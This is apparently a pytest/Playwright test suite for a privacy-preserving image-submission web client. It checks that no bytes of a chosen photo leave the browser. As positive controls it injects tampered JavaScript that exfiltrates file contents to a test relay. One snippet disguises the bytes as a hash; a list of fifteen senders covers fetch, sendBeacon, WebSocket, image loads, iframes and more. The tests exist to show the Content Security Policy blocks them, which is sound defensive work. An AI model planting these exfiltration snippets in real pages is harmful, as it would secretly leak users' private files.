"""The image never leaves the device: every byte that the browser sends is searched for it."""

import base64
from urllib.parse import quote_from_bytes

import numpy as np
import pytest
from playwright.sync_api import Page

from clients.browser.assemble import FRAME_POLICY, PAGE_POLICY, assemble, read_sources

from .leaks import WINDOW, leaked
from .person import WORDS, Person, file
from .pictures import photo
from .relay import Relay

PHOTO = photo(3)


def walk_through(person: Person) -> None:
    """Do all there is to do: submit two images, look, withdraw one, withdraw all."""
    person.begin()
    person.choose(file("one.jpg", PHOTO), file("two.jpg", photo(4)))
    person.review()
    person.submit()
    person.press(WORDS["done"]["look"])
    person.press("Withdraw image 1")
    person.press(WORDS["case"]["yes"])
    person.press(WORDS["case"]["withdraw-all"])
    person.press(WORDS["case"]["yes"])
    person.page.get_by_text(WORDS["case"]["did"]).wait_for()


def test_no_part_of_an_image_leaves_the_browser(person: Person, relay: Relay) -> None:
    walk_through(person)
    assert len(relay.calls("POST")) == 1
    assert len(relay.calls("DELETE")) == 2
    assert leaked(PHOTO, [each.raw for each in relay.requests]) == []
    assert relay.outsiders == []


# The positive controls: the same search, on a page that was tampered with.

SMUGGLE = """
  file.slice(5000, 5032).bytes().then((bytes) => tell({ kind: "hashed", image: 99, hashes: [
    { pdq: Array.from(bytes, (b) => b.toString(16).padStart(2, "0")).join(""),
      quality: 100, view: "original" }] }));
"""


def test_bytes_smuggled_out_as_a_hash_would_be_found(page: Page, relay: Relay) -> None:
    choose_at(page, relay, tampered(SMUGGLE))
    person = Person(page)
    person.review()
    person.agree()
    # The service may well refuse such a hash: it was sent all the same.
    with page.expect_response("**/v1/cases"):
        person.press(WORDS["check"]["send"])
    assert len(leaked(PHOTO, [relay.calls("POST")[0].raw])) >= 32 - WINDOW + 1


# Bodies of an async function of `file`, `url` and `text`, a part of the file in base64.
SENDERS = {
    "fetch": "await fetch(url, { method: 'POST', mode: 'no-cors', body: file })",
    "beacon": "navigator.sendBeacon(url, text)",
    "xhr": "const x = new XMLHttpRequest(); x.open('POST', url); x.send(text)",
    "image": "new Image().src = url + text",
    "form": "const form = document.createElement('form'); form.action = url + text;"
    " form.method = 'POST'; document.body.append(form); form.submit()",
    "navigation": "location.href = url + text",
    "window": "open(url + text)",
    "top": "top.location.href = url + text",
    "frame": "const inner = document.createElement('iframe'); inner.src = url + text;"
    " document.body.append(inner)",
    "stylesheet": "const link = document.createElement('link'); link.rel = 'stylesheet';"
    " link.href = url + text; document.head.append(link)",
    "prefetch": "const link = document.createElement('link'); link.rel = 'prefetch';"
    " link.href = url + text; document.head.append(link)",
    "socket": "new WebSocket(url.replace('http', 'ws') + text)",
    "events": "new EventSource(url + text)",
    "import": "await import(url + text)",
    "worker": "new Worker(URL.createObjectURL(new Blob("
    "[`fetch('${url}${text}').catch(() => 0)`])))",
}
NO_POLICY = "img-src *"
SENDING = """
  file.slice(0, 600).arrayBuffer().then(async (bytes) => {
    const url = "ADDRESS/collect-NAME?";
    const text = btoa(String.fromCharCode(...new Uint8Array(bytes)));
    BODY;
  }).catch(() => {});
"""


def tampered(code: str, **policies: str) -> str:
    """Assemble the page with foreign code that runs on every file that is chosen."""
    sources = read_sources()
    place = "  for (const file of files) {\n"
    assert place in sources["frame.js"]
    sources["frame.js"] = sources["frame.js"].replace(place, place + code + ";\n")
    return assemble(sources, **policies)


def choose_at(page: Page, relay: Relay, tampered_page: str) -> None:
    """Choose a photo at another page, and give its code the time to send."""
    relay.page = tampered_page
    page.reload()
    person = Person(page)
    person.begin()
    person.frame.locator("input[type=file]").set_input_files(file("one.jpg", PHOTO))
    page.wait_for_timeout(1_000)


def senders(relay: Relay, *names: str) -> str:
    texts = [SENDING.replace("NAME", name).replace("BODY", SENDERS[name]) for name in names]
    return "\n".join(texts).replace("ADDRESS", relay.address)


def test_tampered_code_cannot_send(page: Page, relay: Relay) -> None:
    choose_at(page, relay, tampered(senders(relay, *SENDERS)))
    assert not [each.url for each in relay.requests if "collect" in each.url]
    assert not leaked(PHOTO, [each.raw for each in relay.requests])


def test_without_the_policy_the_same_code_is_caught(page: Page, relay: Relay) -> None:
    staying = [name for name in SENDERS if name not in ("form", "navigation", "top", "window")]
    code = senders(relay, *staying)
    choose_at(page, relay, tampered(code, page_policy=NO_POLICY, frame_policy=NO_POLICY))
    caught = {each.path.partition("collect-")[2]: each.raw for each in relay.requests}
    for name in set(staying) - {"socket", "prefetch"}:
        assert leaked(PHOTO, [caught[name]]), name


def test_a_navigation_of_the_frame_would_be_caught(page: Page, relay: Relay) -> None:
    code = senders(relay, "navigation")
    choose_at(page, relay, tampered(code, page_policy=NO_POLICY, frame_policy=NO_POLICY))
    assert leaked(PHOTO, [each.raw for each in relay.requests])


@pytest.mark.parametrize(
    "encoded",
    [
        PHOTO[500:540],
        b"x=" + base64.b64encode(PHOTO[100:160])[3:-4],
        base64.urlsafe_b64encode(PHOTO[100:160]),
        b"0" + PHOTO[700:720].hex().encode(),
        PHOTO[700:720].hex().upper().encode(),
        quote_from_bytes(PHOTO[900:930]).encode(),
        quote_from_bytes(base64.b64encode(PHOTO[900:930])).encode(),
    ],
)
def test_the_search_finds_every_way_to_write_it_down(encoded: bytes) -> None:
    assert leaked(PHOTO, [b"GET /?q=" + encoded + b"&r=1 HTTP/1.1"])


def test_the_search_finds_nothing_in_another_file() -> None:
    other = np.random.default_rng(1).bytes(100_000)
    assert leaked(PHOTO, [other, base64.b64encode(other), other.hex().encode()]) == []


def test_the_policies_name_no_source_but_what_is_needed() -> None:
    for policy in (PAGE_POLICY, FRAME_POLICY):
        assert policy.startswith("default-src 'none';")
        assert "unsafe" not in policy
        assert "http" not in policy
    assert "connect-src" not in FRAME_POLICY
    assert "'self'" not in FRAME_POLICY
